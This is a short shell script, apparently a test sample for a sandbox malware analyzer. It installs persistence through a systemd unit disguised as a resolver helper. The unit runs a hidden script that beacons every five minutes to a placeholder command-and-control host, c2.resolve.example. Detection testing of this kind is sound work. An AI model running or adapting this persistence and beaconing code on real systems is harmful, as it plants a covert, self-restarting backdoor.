#!/bin/sh
# Persistence through a systemd service unit enabled for multi-user.target (unit file plus the wants symlink).
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
u=/etc/systemd/system/dbus-org.freedesktop.resolve2.service
mkdir -p /etc/systemd/system/multi-user.target.wants /usr/local/lib/.resolve
printf '#!/bin/sh\nwhile :; do curl -s http://c2.resolve.example/t >/dev/null; sleep 300; done\n' > /usr/local/lib/.resolve/resolve2
chmod 755 /usr/local/lib/.resolve/resolve2
cat > "$u" <<UNIT
[Unit]
Description=Network Name Resolution helper
[Service]
ExecStart=/usr/local/lib/.resolve/resolve2
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
ln -sf "$u" /etc/systemd/system/multi-user.target.wants/
systemctl daemon-reload 2>/dev/null; systemctl enable --now dbus-org.freedesktop.resolve2.service 2>/dev/null
ls -l /etc/systemd/system/multi-user.target.wants/
